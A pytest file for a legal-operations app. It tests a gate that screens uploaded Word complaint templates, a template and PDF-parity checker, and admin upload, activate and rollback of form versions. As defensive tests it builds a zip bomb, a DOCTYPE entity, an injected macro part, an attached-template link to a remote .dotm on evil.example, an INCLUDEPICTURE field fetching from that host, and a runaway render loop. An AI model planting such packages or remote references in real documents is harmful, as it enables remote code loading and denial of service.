"""Uploaded form versions: the gate refuses bad packages with a reason, the check reports split tags, unknown
names and failed sample renders, and activation switches new filings to the upload until a rollback."""

import io
import re
import zipfile

import factories as f
import pytest
from docx import Document
from sqlalchemy import select

from legalops.audit.models import AuditEntry
from legalops.core.errors import DomainError
from legalops.documents.docx_gate import check_docx_package
from legalops.documents.models import Filing, FormVersion
from legalops.documents.registry import get_registry
from legalops.documents.template_check import check_template, sample_render, split_tags
from legalops.documents.textcheck import docx_text

SHIPPED = get_registry().get("complaint")


def _docx(*paragraphs, runs=None) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if runs:
        paragraph = document.add_paragraph()
        for text in runs:
            paragraph.add_run(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _repack(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """Return the package with some members' bytes replaced and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, (replace or {}).get(item.filename, src.read(item)))
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _edited(old: str, new: str) -> bytes:
    """The shipped complaint template with one piece of its body XML replaced."""
    data = SHIPPED.docx_path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode()
    assert old in xml
    return _repack(data, {"word/document.xml": xml.replace(old, new, 1).encode()})


def _retitled(title: str) -> bytes:
    """The shipped complaint template with its heading changed (so its text no longer matches the PDF)."""
    return _edited(">民事起诉状<", f">{title}<")


def _marked(mark: str) -> bytes:
    """The shipped complaint template, same text, with `mark` in its document properties and a larger title."""
    document = Document(io.BytesIO(_edited('<w:sz w:val="44"/>', '<w:sz w:val="52"/>')))
    document.core_properties.comments = mark
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _refusal(data: bytes) -> str:
    with pytest.raises(DomainError) as caught:
        check_docx_package(data)
    return caught.value.message


# --- the package gate -------------------------------------------------------------------------------------

def test_gate_refuses_what_is_not_a_docx():
    assert _refusal(b"%PDF-1.7 not a word file") == "This is not a Word (.docx) file."
    empty_zip = io.BytesIO()
    zipfile.ZipFile(empty_zip, "w").writestr("readme.txt", "hi")
    assert _refusal(empty_zip.getvalue()) == "This is not a Word (.docx) file."


def test_gate_refuses_a_zip_bomb():
    bomb = _repack(_docx("x"), add={"word/media/padding.xml": b" " * (31 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert _refusal(bomb) == "The Word file unpacks to too much data."


def test_gate_refuses_a_flood_of_empty_paragraphs():
    data = _docx("x")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml")
    flood = xml.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 6000, 1)
    assert _refusal(_repack(data, {"word/document.xml": flood})) == "The Word file has too many paragraphs."


def test_gate_refuses_a_doctype():
    data = _docx("x")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode()
    evil = xml.replace("?>", '?><!DOCTYPE d [<!ENTITY e "lol">]>', 1).encode()
    assert _refusal(_repack(data, {"word/document.xml": evil})) == \
        "The Word file declares a DOCTYPE, which is not allowed."


def test_gate_refuses_macros_by_part_and_by_content_type():
    data = _docx("x")
    assert "macros" in _refusal(_repack(data, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    docm = types.replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    assert "macros" in _refusal(_repack(data, {"[Content_Types].xml": docm.encode()}))


def test_gate_refuses_external_references():
    data = _docx("x")
    template_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                     b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                     b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                     b'TargetMode="External"/></Relationships>')
    reason = _refusal(_repack(data, add={"word/_rels/settings.xml.rels": template_rels}))
    assert "outside file or address" in reason
    image_rels = template_rels.replace(b"attachedTemplate", b"image").replace(b"t.dotm", b"pixel.png")
    assert "outside file" in _refusal(_repack(data, add={"word/_rels/header1.xml.rels": image_rels}))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("word/document.xml").decode()
    field = xml.replace("<w:t>x</w:t>", '<w:instrText> INCLUDEPICTURE "http://evil.example/a.png" </w:instrText>', 1)
    assert "INCLUDEPICTURE" in str(pytest.raises(DomainError, check_docx_package,
                                                 _repack(data, {"word/document.xml": field.encode()})).value)


# --- the template check -----------------------------------------------------------------------------------

def test_split_tag_is_reported_with_its_paragraph():
    data = _docx("{{ court }}", runs=["原告：{{ cou", "rt }}，被告"])
    assert split_tags(data) == ["原告：{{ court }}，被告"]
    report = check_template(data, SHIPPED, get_registry().forms_dir)
    assert any("split across Word runs" in msg and params["text"] == "原告：{{ court }}，被告"
               for msg, params in report["problems"])


def test_unknown_variables_and_attributes_are_reported():
    data = _docx("{{ court_name }}", "{% for p in respondents %}{{ p.nam }}{{ p.name }}{% endfor %}",
                 "{{ amounts.total }}{{ amounts.totl }}")
    names = [params["name"] for msg, params in check_template(data, SHIPPED, get_registry().forms_dir)["problems"]]
    assert names == ["court_name", "p.nam", "amounts.totl"]


def test_shipped_templates_pass_their_own_check():
    registry = get_registry()
    for spec in registry.all():
        assert check_template(spec.docx_path.read_bytes(), spec, registry.forms_dir)["problems"] == [], spec.key


def test_a_template_that_fails_on_the_sample_is_reported():
    report = check_template(_docx("{{ respondents[7].name }}"), SHIPPED, get_registry().forms_dir)
    ((msg, params),) = report["problems"]
    assert msg.startswith("Rendering the sample failed") and "UndefinedError" in params["error"]


# --- the Word file must say what the PDF says (the PDF is always made from template.html) --------------------

PARITY = "The Word file and the PDF made from the form's HTML say different things"


def _parity_problem(data: bytes) -> dict:
    problems = check_template(data, SHIPPED, get_registry().forms_dir)["problems"]
    ((msg, params),) = problems
    assert msg.startswith(PARITY)
    return params


def test_an_upload_that_changes_only_formatting_passes():
    data = _marked("reformatted")
    assert b'w:val="52"' in zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    assert check_template(data, SHIPPED, get_registry().forms_dir)["problems"] == []


def test_an_added_sentence_fails_with_the_passage_named():
    params = _parity_problem(_edited(">诉讼请求：<", ">被告另应赔偿原告精神损失费五万元。诉讼请求：<"))
    assert params["docx"] == "被告另应赔偿原告精神损失费五万元。" and params["pdf"] == ""
    assert params["before"].endswith("。")  # the end of the last party's line


def test_a_changed_sentence_fails_with_both_wordings():
    params = _parity_problem(_edited("承担连带清偿责任；", "承担补充赔偿责任；"))
    assert (params["docx"], params["pdf"]) == ("补充赔", "连带清")
    assert params["before"].endswith("张三对上述第1、2项债务承担")


def test_a_changed_heading_fails_and_the_message_reads_in_full():
    msg, params = check_template(_retitled("民事起诉状（新版）"), SHIPPED, get_registry().forms_dir)["problems"][0]
    assert msg % params == ("The Word file and the PDF made from the form's HTML say different things with the "
                            "sample data: after “民事起诉状” the Word file has “（新版）” where the PDF has “”.")


def test_sample_render_without_parity_accepts_a_different_text():
    assert sample_render(_retitled("民事起诉状（新版）"), SHIPPED, get_registry().forms_dir, parity=False) is None


def test_a_runaway_sample_render_is_killed_after_the_timeout():
    slow = _docx("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}")
    msg, params = sample_render(slow, SHIPPED, get_registry().forms_dir, timeout=2)
    assert msg.startswith("Rendering the sample took longer") and params == {"seconds": 2}


# --- upload, activate, roll back through the admin pages ----------------------------------------------------

@pytest.fixture
def admin(app, session):
    user = f.user(session, "admin")
    user.locale = "en"  # the assertions read the English messages
    counsel = f.user(session, "counsel")
    case = f.case(session, counsel, debtors=2)
    session.commit()
    client = app.test_client()
    f.login(client, user)
    return {"client": client, "user": user, "counsel": counsel, "case": case}


def _upload(client, data: bytes, label: str):
    return client.post("/admin/forms/complaint", data={"label": label, "file": (io.BytesIO(data), "complaint.docx")},
                       content_type="multipart/form-data")


def test_a_refused_upload_states_its_reason_and_stores_nothing(app, session, admin, tmp_path):
    macro = _repack(SHIPPED.docx_path.read_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf"})
    response = _upload(admin["client"], macro, "2026.9")
    assert response.status_code == 422
    assert "The Word file contains macros, which are not allowed." in response.get_data(as_text=True)
    assert 'value="2026.9"' in response.get_data(as_text=True)  # what the admin typed is kept
    assert session.execute(select(FormVersion)).scalars().all() == []
    assert not (tmp_path / "storage" / "forms").exists()


def test_a_failed_check_is_stored_but_cannot_be_activated(app, session, admin):
    response = _upload(admin["client"], _docx("{{ court_name }}"), "2026.bad")
    assert response.status_code == 302
    version = session.execute(select(FormVersion)).scalar_one()
    assert version.status == "failed"
    page = admin["client"].get("/admin/forms/complaint").get_data(as_text=True)
    assert "court_name" in page and f"activate-{version.id}" not in page
    refused = admin["client"].post(f"/admin/forms/complaint/versions/{version.id}/activate")
    assert refused.status_code == 409
    session.refresh(version)
    assert version.status == "failed"


def test_an_upload_saying_something_else_than_the_pdf_cannot_be_activated(app, session, admin):
    assert _upload(admin["client"], _retitled("民事起诉状（新版）"), "2026.4").status_code == 302
    version = session.execute(select(FormVersion)).scalar_one()
    assert version.status == "failed"
    page = admin["client"].get("/admin/forms/complaint").get_data(as_text=True)
    assert "say different things" in page and "the Word file has “（新版）”" in page
    assert f"activate-{version.id}" not in page
    assert admin["client"].post(f"/admin/forms/complaint/versions/{version.id}/activate").status_code == 409


def _generate(app, session, case, counsel) -> Filing:
    client = app.test_client()
    f.login(client, counsel)
    assert client.post(f"/cases/{case.id}/filings/complaint", data={"formats": ["docx"]}).status_code == 302
    return session.execute(select(Filing).where(Filing.case_id == case.id)
                           .order_by(Filing.version_number.desc())).scalars().first()


def _mark(app, filing: Filing) -> str:
    """The mark of the template a filing was made with ('' for the shipped one), and its heading."""
    from legalops.documents.storage import stored_path

    data = stored_path(app.config["STORAGE_DIR"], filing.docx_path).read_bytes()
    assert re.search(r"民事起诉状\S*", docx_text(data)).group(0) == "民事起诉状"  # uploads say the same
    return Document(io.BytesIO(data)).core_properties.comments


def test_activate_switches_new_filings_and_rollback_restores_the_shipped_template(app, session, admin):
    client, case, counsel = admin["client"], admin["case"], admin["counsel"]
    assert _upload(client, _marked("新版"), "2026.2").status_code == 302
    version = session.execute(select(FormVersion)).scalar_one()
    assert version.status == "checked" and version.report["problems"] == []
    assert client.post(f"/admin/forms/complaint/versions/{version.id}/activate").status_code == 302
    assert "2026.2" in client.get("/admin/forms/").get_data(as_text=True)

    uploaded = _generate(app, session, case, counsel)
    assert (uploaded.form_version, uploaded.form_version_id) == ("2026.2", version.id)
    assert _mark(app, uploaded) == "新版"

    assert client.post("/admin/forms/complaint/rollback").status_code == 302
    session.refresh(version)
    assert version.status == "retired"
    shipped = _generate(app, session, case, counsel)
    assert shipped.id != uploaded.id and shipped.form_version == SHIPPED.version and shipped.form_version_id is None
    assert _mark(app, shipped) == ""
    # The earlier filing keeps the template it was made with.
    assert _mark(app, uploaded) == "新版"
    actions = session.execute(select(AuditEntry.action).where(AuditEntry.object_type == "form_version")
                              .order_by(AuditEntry.id)).scalars().all()
    assert actions == ["upload", "activate", "rollback"]


def test_rollback_returns_to_the_previous_upload(app, session, admin):
    client = admin["client"]
    for label, mark in (("2026.2", "二"), ("2026.3", "三")):
        _upload(client, _marked(mark), label)
        version = session.execute(select(FormVersion).where(FormVersion.label == label)).scalar_one()
        client.post(f"/admin/forms/complaint/versions/{version.id}/activate")
    client.post("/admin/forms/complaint/rollback")
    statuses = dict(session.execute(select(FormVersion.label, FormVersion.status)).all())
    assert statuses == {"2026.2": "active", "2026.3": "retired"}
    assert _mark(app, _generate(app, session, admin["case"], admin["counsel"])) == "二"


def test_the_same_file_twice_is_refused(app, session, admin):
    data = _marked("新版")
    assert _upload(admin["client"], data, "2026.2").status_code == 302
    again = _upload(admin["client"], data, "2026.3")
    assert again.status_code == 409 and "already uploaded as version 2026.2" in again.get_data(as_text=True)
